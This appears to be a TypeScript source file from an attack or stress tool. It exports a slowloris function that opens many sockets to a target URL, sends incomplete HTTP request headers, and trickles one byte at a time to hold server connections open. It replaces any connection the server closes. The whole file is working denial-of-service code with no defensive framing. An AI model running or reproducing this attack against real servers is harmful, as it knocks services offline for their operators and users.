import type { Socket } from 'node:net'
import { type Attack, often, open } from './attack.ts'

/** Requests whose headers come byte by byte and never end; a connection that is closed is followed by another. */
export function slowloris({ url, connections, perSecond, count }: Attack): void {
  const sockets: Socket[] = []
  let next = 0
  often(perSecond, () => {
    const place = next++ % connections
    const socket = sockets[place]
    if (socket === undefined || socket.destroyed) {
      const opened = open(url)
      opened.resume().write(`GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nX-Slow: `)
      sockets[place] = opened
      return
    }
    socket.write('a')
    count()
  })
}
